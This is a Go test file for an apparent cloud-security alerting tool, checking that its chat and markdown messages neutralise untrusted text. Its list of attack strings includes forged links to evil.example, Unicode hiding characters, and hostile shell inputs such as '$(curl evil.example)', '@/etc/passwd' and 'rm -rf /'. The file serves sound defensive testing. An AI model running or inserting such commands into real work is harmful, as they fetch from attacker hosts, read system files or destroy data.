package message_test

import (
	"errors"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/ecsguard/ecsguard/shared/cloud"
	"github.com/ecsguard/ecsguard/shared/ledger"
	"github.com/ecsguard/ecsguard/shared/message"
	"github.com/ecsguard/ecsguard/shared/practice"
)

var attacks = []string{
	"[click](http://evil)",
	"![pixel](http://evil/x.png)",
	"<http://evil>", "<img src=http://evil>", "http://evil.example", "www.evil.example",
	"[a][b]\n\n[b]: http://evil",
	"`code`", "```\nrm -rf /\n```", "a\n```\n\n### CRITICAL: forged\n\n```",
	"a\r\n\r\n# forged", "a\u2028# forged", "a\u0085# forged", "a\v# forged",
	"@all", "x @all", "＠@all", "@13800000000", "@所有人",
	"**bold** __bold__ ~~gone~~ | cell |", `\`, `a\](http://evil)`, `\\[click](http://evil)`,
	"\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth\ufeff", "\U000E0041tag",
	"nul\x00 esc\x1b[31m", "bad\xff\xfeutf8",
	"https://evil.example/unlock", "WWW.EVIL.EXAMPLE", "evil.example/login", "Evil.Example", "evil。example", "evil\u200b.example", "ecs.aliyuncs.com/evil", "x@evil.example/login",
	"**Fixed.** nothing to do", "[click](https://evil.example)", "<font color=green>Fixed</font>", "a\u3164b", "a\u2800\u115f\uffa0\ufe0fb",
	"--force", "-h", "--x=y", "-1/-1", "@/etc/passwd", "file:///etc/passwd", "$(curl evil.example)", "{RequestId}", "_now_",
	strings.Repeat("very-long-name-", 18), "name\nwith\tbreaks", "🚒 fire", "مجموعة",
}

// A host is what a chat program may make a link of. The hosts of Alibaba Cloud's own
// services are events' own words.
var aHost = regexp.MustCompile(`(?i)[\pL\pN]\.(example|com)\b`)

func namesAHost(s string) bool {
	for _, known := range []string{"https://ecs.console.aliyun.com", "--Permissions"} {
		s = strings.ReplaceAll(s, known, "")
	}
	return aHost.MatchString(s) || strings.Contains(s, "://") || strings.Contains(strings.ToLower(s), "www.")
}

// Names, errors, agents and everything else are whatever somebody chose to write.
func TestUntrustedText(t *testing.T) {
	links := regexp.MustCompile(`(^|[^\\])\]\(`)
	for _, a := range attacks {
		for _, o := range []practice.Outcome{practice.Fixed, practice.Failed, practice.Awaiting} {
			r := record(func(r *ledger.Record) {
				r.Outcome, r.Resource, r.ResourceType, r.Region, r.Account = o, a, a, a, a // of no known type: no link of ours
				r.ID, r.ResourceName, r.Finding, r.Reason, r.Error, r.Advice, r.Practice = a, a, a, a, a, a, a
				r.Actor, r.ActorType, r.ActorIP, r.ActorAgent, r.Event, r.EventName = a, a, a, a, a, a
				r.Why, r.Note = []string{a}, a
				r.Calls = []cloud.Call{cloud.New("ecs", "A", "", "Description", a)}
				r.Undo = r.Calls
			})
			var records []ledger.Record
			for i := range 7 {
				records = append(records, r)
				records[i].ID += string(rune('0' + i))
			}
			for _, m := range append(message.Compose(records[:1]), append(message.Compose(records[:3]), message.Compose(records)...)...) {
				prose, code := split(t, md(m))
				if strings.Contains(chat(m), "`") || regexp.MustCompile(`(^|[^\pL\pN])@`).MatchString(chat(m)) {
					t.Errorf("%q opens a code block or mentions somebody:\n%s", a, chat(m))
				}
				if links.MatchString(prose) || strings.Contains(prose, "://") || regexp.MustCompile(`(^|[^\\])<`).MatchString(prose) || strings.Contains(prose, "www.") {
					t.Errorf("%q forges a link:\n%s", a, prose)
				}
				if regexp.MustCompile(`(^|[^\pL\pN])@`).MatchString(prose) || regexp.MustCompile(`(^|[^\pL\pN])@`).MatchString(m.Title) {
					t.Errorf("%q forges a mention:\n%s", a, prose)
				}
				if strings.Contains(prose, "\n#") && strings.Contains(prose, "\n# ") || strings.Contains(prose, "\n### CRITICAL: forged") {
					t.Errorf("%q forges a heading:\n%s", a, prose)
				}
				for _, s := range []string{m.Title, plain(m), md(m), chat(m)} {
					if namesAHost(s) {
						t.Errorf("%q names a host:\n%s", a, s)
					}
				}
				for _, line := range strings.Split(m.Title+"\n"+plain(m)+"\n"+chat(m)+"\n"+prose, "\n") {
					if strings.HasPrefix(line, "aliyun ") { // bytes are written with a backslash, and words with an underscore within
						line = regexp.MustCompile(`\$'(\\x[0-9a-f]{2})+'`).ReplaceAllString(line, "")
					}
					if strings.ContainsAny(strings.NewReplacer("**", "", "### ", "", "["+string(m.Severity)+"]", "", "```", "").Replace(line), "<>`*#|~\\") {
						t.Errorf("%q leaves markup in %q", a, line)
					}
				}
				for _, s := range []string{m.Title, plain(m), chat(m), prose, code} {
					if i := strings.IndexFunc(s, hidden); i >= 0 {
						t.Errorf("%q leaves %q in %q", a, s[i:i+1], s)
					}
				}
				if strings.Contains(m.Title, "\n") {
					t.Errorf("%q breaks the title", a)
				}
			}
		}
	}
}

// hidden is written by somebody else than this test's subject: the code points
// that reorder, hide or end a line.
func hidden(r rune) bool {
	return r < ' ' && r != '\n' || r == 0x7f || r == 0x85 || r >= 0x200b && r <= 0x200f || r >= 0x2028 && r <= 0x202e ||
		r >= 0x2060 && r <= 0x206f || r == 0xfeff || r >= 0xe0000 && r <= 0xe007f || r == 0x3164 || r == 0x2800 || r == 0x115f || r == 0xffa0
}

// split parts code blocks from the rest, and checks that commands and queries of
// ours are all that is in them.
func split(t *testing.T, markdown string) (prose, code string) {
	t.Helper()
	inside := false
	for line := range strings.Lines(markdown) {
		switch {
		case strings.TrimSpace(line) == "```":
			inside = !inside
		case inside:
			code += line
			if !strings.HasPrefix(line, "aliyun ecs A --Description ") && !strings.HasPrefix(line, "aliyun ecs A --Description=-") && !strings.HasPrefix(line, "kind: result ") || strings.Contains(line, "`") {
				t.Errorf("a line of a code block is not ours: %q", line)
			}
		default:
			prose += line
		}
	}
	if inside || strings.Contains(prose, "```") || regexp.MustCompile("(^|[^\\\\])`").MatchString(prose) {
		t.Errorf("a code block is opened from outside:\n%s", markdown)
	}
	return prose, code
}

// A command that is shown does what the call does.
func TestInertCommandMeansTheSame(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash here")
	}
	for _, a := range append(attacks, "it's", `it's \ `+"`x`", "'\n'", "\n", `\'`+"\n"+`'\''`, "tab\there", "日本\u3000語", "$(x) ${y} !z") {
		if strings.ContainsRune(a, 0) || strings.Contains(a, "\xff") {
			continue // no argument can hold the one, no JSON the other
		}
		line := message.Inert(cloud.New("ecs", "A", "", "Description", a).String())
		out, err := exec.Command(bash, "-c", `aliyun() { printf %s "${3#--Description=}${4-}"; }; `+line).Output()
		if err != nil || strings.TrimPrefix(string(out), "--Description") != a {
			t.Errorf("%q is shown as %s, which is %q (%v)", a, line, out, err)
		}
	}
}

func TestClean(t *testing.T) {
	for _, test := range []struct{ in, want string }{
		{"  a \t b\n", "a b"},
		{"12345678901", "123456789…"},
		{"日本語日本語日本語日本語", "日本語日本語日本語…"},
		{"alice@example.com", "alice@exa…"},
		{"123456789 1", "123456789…"},
		{"1234567890 \x00 ", "1234567890"},
		{"", ""},
	} {
		if got := message.Clean(test.in, 10); got != test.want {
			t.Errorf("clean(%q) = %q, want %q", test.in, got, test.want)
		}
	}
}

// What ecsguard says of its own failures holds others' words as well.
func TestUntrustedTextOfFailures(t *testing.T) {
	mention := regexp.MustCompile(`(^|[^\pL\pN])@`)
	for _, a := range attacks {
		f := message.Failure{Function: a, Request: a, Why: a, Error: a, Event: a, ResourceType: a, Resource: a, Region: a, Account: a, Actor: a, ActorType: a, ActorIP: a, ActorAgent: a}
		trouble := message.Trouble{What: a + " is gone", Means: a, Mend: a, Commands: []string{cloud.New("ram", "DeleteRole", "", "RoleName", a).String()}}
		for _, m := range []message.Message{f.Message(), message.Failures([]message.Failure{f, f}), message.Troubles(a, []message.Trouble{trouble}, nil, night), message.Broken(a, a, errors.New(a), night)} {
			if strings.Count(md(m), "```")%2 != 0 || strings.Contains(chat(m), "`") || strings.Contains(plain(m), "`") {
				t.Errorf("%q opens a code block:\n%s", a, md(m))
			}
			for _, s := range []string{m.Title, md(m), chat(m), plain(m)} {
				if mention.MatchString(s) || namesAHost(s) || strings.Contains(s, "](") || strings.IndexFunc(s, hidden) >= 0 || strings.Contains(s, "<") {
					t.Errorf("%q makes a link, a mention or worse:\n%s", a, s)
				}
			}
		}
	}
}
